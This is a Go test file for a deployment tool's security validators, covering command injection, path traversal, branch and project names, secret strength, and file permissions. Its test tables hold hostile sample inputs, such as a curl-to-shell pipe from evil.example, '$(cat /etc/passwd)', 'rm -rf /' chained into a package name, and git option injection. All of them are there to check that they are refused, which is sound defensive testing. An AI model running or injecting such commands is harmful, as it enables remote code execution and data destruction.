package security

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"slipway/internal/security"
)

// TestRemedialCommandInjectionPrevention tests that automatic recovery
// refuses commands carrying injection payloads. Package names are
// scraped from build output, so an attacker who controls a dependency's
// error text controls part of the suggested argv.
func TestRemedialCommandInjectionPrevention(t *testing.T) {
	tests := []struct {
		name    string
		argv    []string
		wantErr bool
	}{
		{
			name:    "legitimate install",
			argv:    []string{"npm", "install", "left-pad"},
			wantErr: false,
		},
		{
			name:    "legitimate cleanup",
			argv:    []string{"rm", "-rf", "node_modules"},
			wantErr: false,
		},
		{
			name:    "command chained into package name",
			argv:    []string{"npm", "install", "left-pad; curl http://evil.example/x.sh | sh"},
			wantErr: true,
		},
		{
			name:    "command substitution in package name",
			argv:    []string{"yarn", "add", "$(cat /etc/passwd)"},
			wantErr: true,
		},
		{
			name:    "backtick substitution in module path",
			argv:    []string{"go", "get", "github.com/x/y@`id`"},
			wantErr: true,
		},
		{
			name:    "conjunction in package name",
			argv:    []string{"pip", "install", "requests && rm -rf /"},
			wantErr: true,
		},
		{
			name:    "downloader is not a remedial program",
			argv:    []string{"curl", "http://evil.example/install.sh"},
			wantErr: true,
		},
		{
			name:    "shell is not a remedial program",
			argv:    []string{"sh", "-c", "true"},
			wantErr: true,
		},
		{
			name:    "rm outside the working copy",
			argv:    []string{"rm", "-rf", "/var/lib/slipway"},
			wantErr: true,
		},
		{
			name:    "rm escaping the working copy",
			argv:    []string{"rm", "-rf", "../../home"},
			wantErr: true,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := security.ValidateRemedialCommand(tt.argv)
			if tt.wantErr && err == nil {
				t.Errorf("Expected %v to be refused", tt.argv)
			}
			if !tt.wantErr && err != nil {
				t.Errorf("Expected %v to be allowed, got: %v", tt.argv, err)
			}
		})
	}
}

// TestPathTraversalPrevention tests that resolved paths cannot escape
// their base directory, including through symlinks.
func TestPathTraversalPrevention(t *testing.T) {
	base := t.TempDir()
	outside := t.TempDir()

	inside := filepath.Join(base, "releases")
	if err := os.MkdirAll(inside, 0755); err != nil {
		t.Fatalf("Failed to create inside dir: %v", err)
	}

	t.Run("path inside base is allowed", func(t *testing.T) {
		resolved, err := security.ConfinePath(base, inside)
		if err != nil {
			t.Fatalf("ConfinePath() error = %v", err)
		}
		if !strings.HasSuffix(resolved, "releases") {
			t.Errorf("Expected resolved path ending in releases, got %s", resolved)
		}
	})

	t.Run("base itself is allowed", func(t *testing.T) {
		if _, err := security.ConfinePath(base, base); err != nil {
			t.Errorf("ConfinePath() error = %v", err)
		}
	})

	t.Run("dotdot escape is rejected", func(t *testing.T) {
		_, err := security.ConfinePath(base, filepath.Join(base, "..", "escape"))
		if err == nil {
			t.Fatal("Expected traversal to be rejected")
		}
	})

	t.Run("absolute path outside base is rejected", func(t *testing.T) {
		_, err := security.ConfinePath(base, outside)
		if err == nil {
			t.Fatal("Expected outside path to be rejected")
		}
		if !strings.Contains(err.Error(), "path traversal detected") {
			t.Errorf("Expected traversal error, got: %v", err)
		}
	})

	t.Run("symlink escape is rejected", func(t *testing.T) {
		link := filepath.Join(base, "sneaky")
		if err := os.Symlink(outside, link); err != nil {
			t.Fatalf("Failed to create symlink: %v", err)
		}
		_, err := security.ConfinePath(base, link)
		if err == nil {
			t.Fatal("Expected symlinked escape to be rejected")
		}
		if !strings.Contains(err.Error(), "path traversal detected") {
			t.Errorf("Expected traversal error, got: %v", err)
		}
	})

	t.Run("sanitize rejects relative paths", func(t *testing.T) {
		if _, err := security.SanitizePath("relative/path"); err == nil {
			t.Error("Expected relative path to be rejected")
		}
	})

	t.Run("sanitize rejects embedded traversal", func(t *testing.T) {
		if _, err := security.SanitizePath("/var/lib/../../etc/passwd"); err == nil {
			t.Error("Expected traversal elements to be rejected")
		}
	})
}

// TestBranchNameInjectionPrevention tests branch name validation
// against option and shell injection.
func TestBranchNameInjectionPrevention(t *testing.T) {
	tests := []struct {
		name    string
		branch  string
		wantErr bool
	}{
		{"simple branch", "main", false},
		{"nested branch", "feature/new-login", false},
		{"branch with dots", "release-1.2.3", false},
		{"empty branch", "", true},
		{"option injection", "--upload-pack=/bin/sh", true},
		{"command separator", "main;whoami", true},
		{"command substitution", "$(whoami)", true},
		{"backticks", "`whoami`", true},
		{"spaces", "main branch", true},
		{"pipe", "main|tee", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := security.ValidateBranchName(tt.branch)
			if tt.wantErr && err == nil {
				t.Errorf("Expected branch %q to be rejected", tt.branch)
			}
			if !tt.wantErr && err != nil {
				t.Errorf("Expected branch %q to be accepted, got: %v", tt.branch, err)
			}
		})
	}
}

// TestProjectNameInjectionPrevention tests project name validation.
// Project names appear in webhook URLs and are used as registry and
// settings keys, so the character set is deliberately narrow.
func TestProjectNameInjectionPrevention(t *testing.T) {
	tests := []struct {
		name    string
		project string
		wantErr bool
	}{
		{"simple name", "my-project", false},
		{"name with underscore", "my_project", false},
		{"name with digits", "web2", false},
		{"empty name", "", true},
		{"leading dash", "-project", true},
		{"leading dot", ".hidden", true},
		{"path separator", "projects/web", true},
		{"traversal", "..", true},
		{"command separator", "web;rm", true},
		{"spaces", "my project", true},
		{"shell variable", "$HOME", true},
		{"null byte", "web\x00evil", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := security.ValidateProjectName(tt.project)
			if tt.wantErr && err == nil {
				t.Errorf("Expected project name %q to be rejected", tt.project)
			}
			if !tt.wantErr && err != nil {
				t.Errorf("Expected project name %q to be accepted, got: %v", tt.project, err)
			}
		})
	}
}

// TestWeakSecretRejection tests the strong secret policy used for
// generated secrets.
func TestWeakSecretRejection(t *testing.T) {
	tests := []struct {
		name        string
		secret      string
		wantErr     bool
		errContains string
	}{
		{
			name:   "strong random secret",
			secret: "aB3!xY9@mN2#qW5$kL8%pR7&tU4^vZ1*jH6(fG0)sD5+eC8~Qw",
		},
		{
			name:        "too short",
			secret:      "short",
			wantErr:     true,
			errContains: "too short",
		},
		{
			name:        "one char under the floor",
			secret:      strings.Repeat("x9!a", 11) + "x9!",
			wantErr:     true,
			errContains: "too short",
		},
		{
			name:        "long but contains password",
			secret:      "this-secret-is-long-enough-but-contains-password",
			wantErr:     true,
			errContains: "placeholder",
		},
		{
			name:        "long but asks to be replaced",
			secret:      "PLEASE-REPLACE-me-with-something-random-soon-okay",
			wantErr:     true,
			errContains: "placeholder",
		},
		{
			name:        "single repeated character",
			secret:      strings.Repeat("a", 64),
			wantErr:     true,
			errContains: "insufficient entropy",
		},
		{
			name:        "repeating digits",
			secret:      strings.Repeat("0123456789", 5),
			wantErr:     true,
			errContains: "insufficient entropy",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := security.ValidateSecret(tt.secret)

			if tt.wantErr {
				if err == nil {
					t.Fatalf("Expected secret %q to be rejected", tt.secret)
				}
				if !strings.Contains(err.Error(), tt.errContains) {
					t.Errorf("Expected error containing %q, got %q", tt.errContains, err.Error())
				}
				return
			}
			if err != nil {
				t.Errorf("Expected secret to be accepted, got: %v", err)
			}
		})
	}
}

// TestGenerateSecretSecurity tests that generated secrets are unique
// and pass the policy they will be validated against.
func TestGenerateSecretSecurity(t *testing.T) {
	seen := make(map[string]bool)

	for i := 0; i < 100; i++ {
		secret, err := security.GenerateSecret()
		if err != nil {
			t.Fatalf("GenerateSecret() error = %v", err)
		}

		if len(secret) < security.MinSecretLength {
			t.Fatalf("Generated secret is %d chars, want at least %d", len(secret), security.MinSecretLength)
		}
		if err := security.ValidateSecret(secret); err != nil {
			t.Fatalf("Generated secret failed validation: %v", err)
		}
		if security.IsWeakSecret(secret) {
			t.Fatalf("Generated secret flagged as weak: %s", secret)
		}

		if seen[secret] {
			t.Fatal("GenerateSecret() produced a duplicate")
		}
		seen[secret] = true
	}
}

// TestSecureFilePermissions tests that files and directories the
// daemon creates are never world-accessible, even when the file
// already exists with wider permissions.
func TestSecureFilePermissions(t *testing.T) {
	tmpDir := t.TempDir()

	t.Run("secret file is owner only", func(t *testing.T) {
		path := filepath.Join(tmpDir, "webhook-secret")
		if err := security.WriteSecureFile(path, []byte("credential"), security.PermSecretFile); err != nil {
			t.Fatalf("WriteSecureFile() error = %v", err)
		}

		info, err := os.Stat(path)
		if err != nil {
			t.Fatalf("Stat() error = %v", err)
		}
		if perm := info.Mode().Perm(); perm != security.PermSecretFile {
			t.Errorf("Expected mode %o, got %o", security.PermSecretFile, perm)
		}
		if info.Mode().Perm()&0077 != 0 {
			t.Error("Secret file is readable by group or world")
		}
	})

	t.Run("config file is not world readable", func(t *testing.T) {
		path := filepath.Join(tmpDir, "projects.yaml")
		if err := security.WriteSecureFile(path, []byte("projects: {}"), security.PermConfigFile); err != nil {
			t.Fatalf("WriteSecureFile() error = %v", err)
		}

		info, err := os.Stat(path)
		if err != nil {
			t.Fatalf("Stat() error = %v", err)
		}
		if perm := info.Mode().Perm(); perm != security.PermConfigFile {
			t.Errorf("Expected mode %o, got %o", security.PermConfigFile, perm)
		}
		if info.Mode().Perm()&0007 != 0 {
			t.Error("Config file is accessible by world")
		}
	})

	t.Run("existing wide file is tightened", func(t *testing.T) {
		path := filepath.Join(tmpDir, "was-world-readable")
		if err := os.WriteFile(path, []byte("old"), 0644); err != nil {
			t.Fatalf("Failed to seed file: %v", err)
		}

		if err := security.WriteSecureFile(path, []byte("new"), security.PermSecretFile); err != nil {
			t.Fatalf("WriteSecureFile() error = %v", err)
		}

		info, err := os.Stat(path)
		if err != nil {
			t.Fatalf("Stat() error = %v", err)
		}
		if perm := info.Mode().Perm(); perm != security.PermSecretFile {
			t.Errorf("Expected rewrite to tighten mode to %o, got %o", security.PermSecretFile, perm)
		}
	})

	t.Run("managed directory is not world accessible", func(t *testing.T) {
		path := filepath.Join(tmpDir, "releases")
		if err := security.CreateSecureDir(path, security.PermDirectory); err != nil {
			t.Fatalf("CreateSecureDir() error = %v", err)
		}

		info, err := os.Stat(path)
		if err != nil {
			t.Fatalf("Stat() error = %v", err)
		}
		if !info.IsDir() {
			t.Fatal("Expected a directory")
		}
		if perm := info.Mode().Perm(); perm != security.PermDirectory {
			t.Errorf("Expected mode %o, got %o", security.PermDirectory, perm)
		}
		if info.Mode().Perm()&0007 != 0 {
			t.Error("Managed directory is accessible by world")
		}
	})
}
